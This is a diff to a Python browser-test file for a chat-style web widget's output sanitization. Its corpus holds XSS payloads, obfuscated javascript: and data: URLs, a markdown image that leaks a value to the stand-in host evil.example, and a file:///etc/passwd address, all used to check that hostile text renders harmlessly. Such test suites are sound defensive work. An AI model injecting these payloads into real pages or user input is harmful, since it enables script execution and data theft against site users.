@@ -27,7 +27,7 @@ CORPUS = {
     "srcset": "<picture><source srcset=//evil.example/1.png><img src=//evil.example/2.png></picture>",
     "mathml": "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror=alert(1)>'>",
     "link": "[lees](javascript:alert(1)) [x](//evil.example) <javascript:alert(1)>",
-    "coded link": "[lees](%6aavascript:alert(1)) [x](java\tscript:alert(1)) [y](data:text/html,<script>alert(1)</script>)",
+    "coded link": "[lees](%6aavascript:alert(1)) [x](java\tscript:alert(1)) [y](data:text/html,<script>alert(1)//)",
     "markdown image": "![x](https://evil.example/?q=geheim) ![y](//evil.example/y.png)",
     "event": "tekst\n\nevent: done\ndata: {}\n\nmeer",
     "entity": "&lt;img src=x onerror=alert(1)&gt; &#x6A;avascript:",
@@ -36,9 +36,9 @@ CORPUS = {
     "nul": "voor\u0000na \u001b[31mrood",
 }
 _ELEMENTS = """(element) => {
-  const own = new Set("article aside blockquote bdi br button cite code dd details div dl dt em figure footer form h2 h3 h4
-    header label li nav ol p pre section slot small span strong summary svg path circle rect line polyline table tbody td
-    textarea input th thead time tr ul a q mark hr dialog fieldset legend".split(/\\s+/));
+  const own = new Set("article aside blockquote bdi br button cite code dd details div dl dt em figure footer
+    form h2 h3 h4 header label li nav ol p pre section slot small span strong summary svg path circle rect line polyline
+    table tbody td textarea input th thead time tr ul a q mark hr dialog fieldset legend".split(/\\s+/));
   const found = [];
   for (const one of element.shadowRoot.querySelectorAll("*")) {
     if (!own.has(one.localName)) found.push(one.localName);
@@ -46,7 +46,8 @@ _ELEMENTS = """(element) => {
     for (const {name, value} of one.attributes) {
       if (name.startsWith("on") || ["src", "srcset", "ping", "style", "action", "formaction"].includes(name))
         found.push(`${one.localName} ${name}`);
-      if (["href", "xlink:href"].includes(name) && !["http:", "https:", "mailto:"].includes(new URL(value, "x:").protocol))
+      const web = () => ["http:", "https:", "mailto:"].includes(new URL(value, "x:").protocol);
+      if (["href", "xlink:href"].includes(name) && !web())
         found.push(`${one.localName} ${name}=${value}`);
       if (name === "href" && new URL(value).hostname.endsWith("evil.example")) found.push(value);
     }
@@ -84,7 +85,6 @@ def test_a_hostile_quotation_is_read_as_it_stands(mount: Mount, scripted: Script
     widget.part("marker").first.click()
     expect(widget.part("popover")).to_be_visible()
     shown = [widget.part(part).first.text_content() or "" for part in ("answer", "popover")]
-    # An element's text has no NUL: the parser is not involved, but Chromium shows a replacement for it or the mark itself.
     wanted = "".join(text.split()).replace("\0", "")
     assert [wanted in "".join(one.split()).replace("\0", "") for one in shown] == [True, True]
     assert strange(widget) == []
@@ -116,9 +116,11 @@ def test_hostile_suggestions_questions_and_problems_stay_words(
 
 
 ADDRESSES = (
-    "javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "java\tscript:alert(1)", "java\nscript:alert(1)",
+    "javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "java\tscript:alert(1)",
+    "java\nscript:alert(1)",
     "%6aavascript:alert(1)", "data:text/html,<script>alert(1)</script>", "vbscript:x", "file:///etc/passwd",
-    "//evil.example/view", "https://evil.example/view", "\\\\evil.example", "/\\evil.example", "@evil.example/", ".evil.example/",
+    "//evil.example/view", "https://evil.example/view", "\\\\evil.example", "/\\evil.example",
+    "@evil.example/", ".evil.example/",
 )  # fmt: skip
 
 
